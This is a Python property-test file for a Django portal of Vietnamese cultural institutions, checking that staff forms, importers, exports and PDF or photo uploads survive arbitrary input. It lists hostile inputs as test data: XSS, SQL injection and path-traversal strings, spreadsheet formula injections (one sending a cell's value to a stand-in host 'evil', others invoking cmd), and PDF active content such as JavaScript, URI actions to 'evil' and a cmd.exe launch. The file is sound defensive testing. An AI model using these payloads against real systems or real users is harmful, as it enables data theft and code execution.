"""Property tests: arbitrary input to every staff form and to the importers.

Arbitrary Unicode, very long strings, control characters (NUL, which PostgreSQL refuses in
text) and malformed dates and numbers, in every field a person types into. Whatever comes in:
never a server error, and never a half-saved object: a refused form leaves every row of the
portal as it was, an accepted one saves the object whole, its text normalised.
"""

import csv
import io
import re
import unicodedata

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from PIL import Image

from identity.models import SiteIdentity
from institutions.importing import import_units_csv
from institutions.models import Assessment
from news.importing import import_file
from news.models import Article
from tests.culture_portal.form_data import admin_form_data
from tests.factories import (
    ArticleFactory,
    CommitmentFactory,
    InstitutionFactory,
    ProgressReportFactory,
    WorkPlanFactory,
    pdf_bytes,
)
from vietnamese.text import CONTROL as _CONTROL
from work_plans.models import ProgressReport
from work_plans.uploads import check_pdf

pytestmark = pytest.mark.django_db

ATTACKS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x07\x1b[31m",
    "\u202e\u200b\ufeff",
    "😀" * 50,
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "../../etc/passwd",
    unicodedata.normalize("NFD", "Nhà văn hóa ấp Mỹ Hiệp"),
    "x" * 5000,
    "-1",
    "1e309",
    "99999999999999999999",
    # Formulas, for the exports that leaders open in a spreadsheet.
    '=HYPERLINK("http://evil/?x="&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "- Tổ chức chiếu phim lưu động",
]
TEXT = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=300),
    st.sampled_from(ATTACKS),
)
FORMULA_LIKE = st.builds(
    lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), TEXT
)
DATES = st.one_of(
    st.sampled_from(
        ["", "2026-02-30", "31/02/2026", "0000-00-00", "2026-13-01", "9999-99-99", "hôm qua"]
    ),
    TEXT,
)
# Values that make an added object differ from the one its form was copied from.
ORDINARY = {
    "assessment": {"year": "2026"},
    "plan": {"year": "2027"},  # and its institution (read-only on the change page)
    "report": {"period_start": "quarter:2025-04-01"},
    "unit": {"code": "99999"},
}
PORTAL_APPS = ("news", "institutions", "work_plans", "identity")


def row_counts() -> dict[str, int]:
    counts = {}
    for label in PORTAL_APPS:
        for model in apps.get_app_config(label).get_models():
            if model._meta.model_name == "auditevent":
                continue
            counts[model._meta.label] = model._default_manager.count()
    return counts


@pytest.fixture
def world(staff_a, leader, superuser, client):
    a = InstitutionFactory(name="Trung tâm Văn hóa A")
    a.editors.add(staff_a)
    plan = WorkPlanFactory(institution=a, year=2026, status="draft", title="Kế hoạch A")
    CommitmentFactory(plan=plan)
    approved = WorkPlanFactory(institution=a, year=2025)
    report = ProgressReportFactory(
        commitment=CommitmentFactory(plan=approved), status="submitted", submitted_by=staff_a
    )
    article = ArticleFactory(title="Tin mẫu", status=Article.Status.DRAFT, published_at=None)
    SiteIdentity.load().save()
    assessment = Assessment.objects.create(institution=a, year=2025, rating="good")
    objects = {
        "institution": a,
        "plan": plan,
        "report": report,
        "article": article,
        "assessment": assessment,
        "site": SiteIdentity.objects.get(),
        "unit": a.unit,
        "type": a.type,
        "category": article.category,
        "commitment category": plan.commitments.first().category,
    }
    # The superuser's view of each form: complete, valid data to put the attacks into.
    client.force_login(superuser)
    data = {}
    for name, obj in objects.items():
        opts = obj._meta
        data[name] = admin_form_data(
            client.get(reverse(f"admin:{opts.app_label}_{opts.model_name}_change", args=[obj.pk]))
        )
    client.logout()
    return {"objects": objects, "data": data}


def without_inline_rows(post: dict) -> dict:
    kept = {k: v for k, v in post.items() if not any(f"-{n}-" in k for n in range(50))}
    for key in kept:
        if key.endswith(("-TOTAL_FORMS", "-INITIAL_FORMS")):
            kept[key] = "0"
    return kept


def form_url(obj, action):
    opts = obj._meta
    name = f"admin:{opts.app_label}_{opts.model_name}_{action}"
    return reverse(name) if action == "add" else reverse(name, args=[obj.pk])


# (form, who fills it, add or change, the fields typed into, date or number fields)
FORMS = [
    (
        "article",
        "editor",
        "add",
        ["title", "lead", "byline", "source", "editor_note", "body"],
        ["published_at_0", "published_at_1"],
    ),
    ("category", "publisher", "add", ["name", "description"], ["order"]),
    (
        "institution",
        "superuser",
        "add",
        [
            "name",
            "address",
            "opening_hours",
            "phone",
            "email",
            "website",
            "head_name",
            "description",
        ],
        ["established_on", "staff_count", "latitude", "longitude"],
    ),
    (
        "institution",
        "staff_a",
        "change",
        ["address", "opening_hours", "phone", "email", "website", "description"],
        ["staff_count"],
    ),
    ("unit", "superuser", "add", ["name", "code"], ["valid_from", "valid_to"]),
    ("type", "superuser", "add", ["name", "description"], ["order"]),
    ("assessment", "leader", "add", ["comments"], ["year"]),
    (
        "plan",
        "staff_a",
        "change",
        [
            "title",
            "note",
            "commitments-0-description",
            "commitments-0-unit",
            "commitments-0-explanation",
        ],
        ["commitments-0-target", "commitments-0-due_date"],
    ),
    ("plan", "staff_a", "add", ["title", "note"], ["year"]),
    ("report", "staff_a", "change", ["note"], ["quantity", "period_start"]),
    ("report", "staff_a", "add", ["note"], ["quantity", "period_start"]),
    ("commitment category", "leader", "add", ["name"], ["order"]),
    (
        "site",
        "superuser",
        "change",
        [
            "name",
            "parent_agency",
            "portal_name",
            "description",
            "address",
            "phone",
            "hotline",
            "email",
            "content_responsible",
            "license_text",
        ],
        [],
    ),
]


@pytest.mark.parametrize(
    "form, role, action, text_fields, other_fields",
    FORMS,
    ids=[f"{f[0]}-{f[2]}-{f[1]}" for f in FORMS],
)
@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_staff_forms_never_fail_or_half_save(
    client, request, world, form, role, action, text_fields, other_fields, data
):
    client.force_login(request.getfixturevalue(role))
    obj = world["objects"][form]
    post = dict(world["data"][form])
    if "slug" in post:
        post["slug"] = ""
    if "expected_version" in post:
        post["expected_version"] = str(type(obj).objects.get(pk=obj.pk).version)
    if form == "plan" and action == "add":
        post["institution"] = str(obj.institution_id)
    if action == "add":  # a new object has no inline rows yet
        post = without_inline_rows(post)
    typed = {name: data.draw(TEXT, label=name) for name in text_fields}
    typed |= {name: data.draw(DATES, label=name) for name in other_fields}
    post.update(typed)
    before = row_counts()
    response = client.post(form_url(obj, action), post)
    assert response.status_code in (200, 302, 403), response.status_code
    after = row_counts()
    if response.status_code == 302:
        if action == "add":
            label = obj._meta.label
            assert after[label] == before[label] + 1
        # What was saved is clean text.
        saved = type(obj).objects.order_by("-pk").first() if action == "add" else obj
        saved.refresh_from_db()
        for name in text_fields:
            value = getattr(saved, name, None)
            if isinstance(value, str) and name not in ("body",):
                assert "\x00" not in value and not _CONTROL.search(value), (name, value)
                assert unicodedata.is_normalized("NFC", value)
    else:
        changed = {k: (before[k], after[k]) for k in before if before[k] != after[k]}
        assert not changed, f"a refused form changed rows: {changed}"
        if response.status_code == 200:
            assert "<script>alert(1)</script>" not in response.content.decode()


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(username=TEXT, password=TEXT)
def test_sign_in_never_fails_on_arbitrary_input(client, username, password):
    response = client.post(
        reverse("admin:login"), {"username": username, "password": password, "next": "/admin/"}
    )
    assert response.status_code in (200, 403, 429)
    assert "_auth_user_id" not in client.session


# Importers -----------------------------------------------------------------------------------


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    content=st.one_of(
        st.binary(max_size=3000),
        TEXT.map(lambda t: t.encode("utf-8")),
        TEXT.map(lambda t: t.encode("utf-16")),
        st.builds(
            lambda title, body: f"{title}\n\n{body}\n\nNgày 12/10/2026\nThanh Nhàn".encode(),
            TEXT,
            TEXT,
        ),
    )
)
def test_news_importer_never_fails_on_arbitrary_files(tmp_path, content):
    path = tmp_path / "tin.txt"
    path.write_bytes(content)
    before = row_counts()
    result = import_file(path)
    after = row_counts()
    if result.action in ("failed", "skipped"):
        assert before == after
        assert result.reason  # said why, in words
    else:
        article = result.article
        assert article.pk and "\x00" not in article.title + article.lead + article.body
        assert unicodedata.is_normalized("NFC", article.title)


CSV_HEADER = "name,kind,code,parent_code,parent_level,valid_from,valid_to,successor_codes\n"


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    rows=st.lists(
        st.lists(
            st.one_of(TEXT, DATES, st.sampled_from(["huyện", "xã", "thôn", "1", "2"])),
            min_size=0,
            max_size=9,
        ),
        max_size=6,
    ),
    header=st.booleans(),
)
def test_unit_importer_reports_bad_rows_and_keeps_the_good(rows, header):
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(row)
    text = (CSV_HEADER if header else "") + buffer.getvalue()
    before = row_counts()["institutions.AdministrativeUnit"]
    report = import_units_csv(text)
    after = row_counts()["institutions.AdministrativeUnit"]
    assert after - before == report.created
    assert all(isinstance(error, str) and error for error in report.errors)


# Exports --------------------------------------------------------------------------------------


@pytest.fixture
def exported_plan():
    plan = WorkPlanFactory(year=2026, institution__slug="trung-tam-xuat")
    return CommitmentFactory(plan=plan, target=12)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    description=st.one_of(TEXT, FORMULA_LIKE),
    unit=st.one_of(TEXT, FORMULA_LIKE),
    category=st.one_of(TEXT, FORMULA_LIKE),
)
def test_exports_write_any_text_as_text_and_numbers_as_numbers(
    client, exported_plan, description, unit, category
):
    """Whatever staff typed, no cell of a plan's export is a formula: XLSX cells hold the
    stored text as text, CSV cells the stored text with a quote before a formula's start."""
    commitment = exported_plan
    commitment.description = description or "Mô tả"
    commitment.unit = unit[:50]
    commitment.save()
    commitment.category.name = category[:150] or "Nhóm"
    commitment.category.save()
    commitment.refresh_from_db()
    stored = [commitment.category.name, commitment.description, commitment.unit]
    plan = commitment.plan
    url = reverse("work_plans:plan-export", args=[plan.year, plan.institution.slug, "xlsx"])
    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
    cells = next(sheet.iter_rows(min_row=2, max_row=2))
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    # XML reads a carriage return as a line feed: the same line break in a spreadsheet.
    assert [cells[0].value, cells[1].value, cells[3].value] == [
        value.replace("\r\n", "\n").replace("\r", "\n") or None for value in stored
    ]
    assert cells[2].value == 12 and cells[2].data_type == "n"

    text = client.get(url.replace(".xlsx", ".csv")).content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    for cell, value in zip([row[0], row[1], row[3]], stored, strict=True):
        formula = value.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell == ("'" + value if formula else value)
    assert row[2] == "12.0"


# Uploads --------------------------------------------------------------------------------------

# Active content of a PDF, each as what it adds to the catalog ("catalog"), to its name tree
# ("names"), to the page ("page") and to the page's annotations ("annots"); and the word the
# refusal names it by.
ACTIVE_PDF = {
    "JavaScript": {
        "names": "/JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>"
    },
    "OpenAction": {"catalog": "/OpenAction << /S /URI /URI (http://evil/) >>"},
    "(AA)": {"page": "/AA << /O << /S /URI /URI (http://evil/) >> >>"},
    "Launch": {"annots": "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"},
    "EmbeddedFile": {
        "names": "/EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << >> >>] >>"
    },
    "XFA": {"catalog": "/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>"},
    "RichMedia": {"annots": "<< /Subtype /RichMedia /Rect [0 0 9 9] >>"},
}
ORDINARY_PDF = {
    "opening at a page": {"catalog": "/OpenAction [3 0 R /Fit]"},
    "a web link": {
        "annots": "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.vn/) >> >>"
    },
    "page labels": {"catalog": "/PageLabels << /Nums [0 << /S /D >>] >>"},
}
_NAME = re.compile(r"/([A-Za-z])([A-Za-z]*)")


def escaped(text: str) -> str:
    """Every name with its first letter written as #xx, as a PDF may write it."""
    return _NAME.sub(lambda m: f"/#{ord(m[1]):02x}{m[2]}", text)


@st.composite
def pdfs(draw):
    """A PDF with some active content, or none, written plainly or with its names escaped,
    its parts in the page and catalog or compressed in an object stream; and the words its
    refusal must name."""
    active = draw(st.sets(st.sampled_from(sorted(ACTIVE_PDF))))
    ordinary = draw(st.sets(st.sampled_from(sorted(ORDINARY_PDF))))
    if "OpenAction" in active:
        ordinary.discard("opening at a page")
    parts: dict[str, list[str]] = {"catalog": [], "names": [], "page": [], "annots": []}
    for feature in [*(ACTIVE_PDF[a] for a in active), *(ORDINARY_PDF[o] for o in ordinary)]:
        for where, text in feature.items():
            parts[where].append(text)
    if draw(st.booleans()):
        parts = {where: [escaped(text) for text in texts] for where, texts in parts.items()}
    catalog, page = list(parts["catalog"]), list(parts["page"])
    if parts["names"]:
        catalog.append("/Names << " + " ".join(parts["names"]) + " >>")
    if parts["annots"]:
        page.append("/Annots [" + " ".join(parts["annots"]) + "]")
    packed = []
    if draw(st.booleans()):  # each value in an object of a compressed object stream
        for entries in (catalog, page):
            for index, entry in enumerate(entries):
                name, _space, value = entry.partition(" ")
                packed.append(value)
                entries[index] = f"{name} {5 + len(packed)} 0 R"
    data = pdf_bytes(
        catalog=" ".join(catalog) + " ",
        page=" ".join(page) + " ",
        packed=tuple(packed),
        padding=draw(st.sampled_from([0, 3000])),
    )
    return data, active


def post_evidence(client, world, data: bytes, name: str):
    report = world["objects"]["report"]
    return client.post(
        reverse("admin:work_plans_progressreport_add"),
        {
            "commitment": report.commitment_id,
            "period_start": "quarter:2025-04-01",
            "quantity": "3",
            "note": "Biên bản nghiệm thu",
            "evidence_article": "",
            "evidence_file": SimpleUploadedFile(name, data, content_type="text/html"),
        },
    )


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(pdf=pdfs())
def test_evidence_pdfs_are_refused_exactly_when_active_naming_what(client, staff_a, world, pdf):
    data, active = pdf
    client.force_login(staff_a)
    before = row_counts()
    response = post_evidence(client, world, data, "bien-ban.pdf")
    if active:
        assert response.status_code == 200
        message = " ".join(response.context["adminform"].form.errors["evidence_file"])
        named = {word for word in ACTIVE_PDF if word in message}
        assert named == active, message
        assert row_counts() == before
    else:
        assert response.status_code == 302, response.context["adminform"].form.errors
        report = ProgressReport.objects.latest("pk")
        assert report.evidence_file.name.endswith(".pdf")
        assert report.evidence_file.read() == data


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    content=st.one_of(
        st.binary(max_size=2000).map(lambda tail: b"%PDF-1.7\n" + tail),
        st.binary(max_size=2000).map(lambda tail: pdf_bytes()[:-30] + tail),
        st.binary(max_size=2000),
    )
)
def test_any_bytes_as_evidence_are_refused_or_stored_checked(client, staff_a, world, content):
    client.force_login(staff_a)
    before = row_counts()
    response = post_evidence(client, world, content, "minh-chung.pdf")
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert response.context["adminform"].form.errors["evidence_file"]
        assert row_counts() == before
    else:  # only a whole, inactive PDF: stored as it came, and it passes the check again
        kept = ProgressReport.objects.latest("pk").evidence_file.read()
        assert kept == content
        check_pdf(kept)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    fmt=st.sampled_from(["JPEG", "PNG"]),
    size=st.tuples(st.integers(1, 200), st.integers(1, 200)),
    gps=st.booleans(),
    tail=st.binary(max_size=300),
)
def test_evidence_photos_are_stored_without_exif_or_what_follows(
    client, staff_a, world, fmt, size, gps, tail
):
    exif = Image.Exif()
    if gps:
        exif[0x8825] = {1: "N", 2: (10.0, 27.0, 36.0)}
    exif[0x010F] = "Máy ảnh"
    buffer = io.BytesIO()
    Image.new("RGB", size, (90, 160, 30)).save(buffer, fmt, exif=exif)
    marked = b"<script>" + tail
    client.force_login(staff_a)
    response = post_evidence(client, world, buffer.getvalue() + marked, "anh.bin")
    assert response.status_code == 302, response.context["adminform"].form.errors
    kept = ProgressReport.objects.latest("pk").evidence_file.read()
    image = Image.open(io.BytesIO(kept))
    assert image.format == fmt and image.size == size and not image.getexif()
    assert marked not in kept
    assert kept.endswith(b"\xff\xd9" if fmt == "JPEG" else b"IEND\xaeB`\x82")


@pytest.mark.parametrize(
    "form, role, action, text_fields, other_fields",
    FORMS,
    ids=[f"{f[0]}-{f[2]}-{f[1]}" for f in FORMS],
)
def test_the_same_forms_accept_ordinary_input(
    client, request, world, form, role, action, text_fields, other_fields
):
    """The property test above reaches the saving path: ordinary input is saved whole."""
    client.force_login(request.getfixturevalue(role))
    obj = world["objects"][form]
    post = dict(world["data"][form])
    if "slug" in post:
        post["slug"] = ""
    if "expected_version" in post:
        post["expected_version"] = str(type(obj).objects.get(pk=obj.pk).version)
    if form == "plan" and action == "add":
        post["institution"] = str(obj.institution_id)
    if action == "add":  # a new object has no inline rows yet
        post = without_inline_rows(post)
    post.update(ORDINARY.get(form, {}))
    for name in text_fields:
        if name not in ("email", "website", "phone", "hotline", "code"):
            post[name] = f"Nội dung {name} hợp lệ"
    before = row_counts()
    response = client.post(form_url(obj, action), post)
    assert response.status_code == 302, response.context and [
        f.errors for f in [response.context["adminform"].form]
    ]
    if action == "add":
        assert row_counts()[obj._meta.label] == before[obj._meta.label] + 1
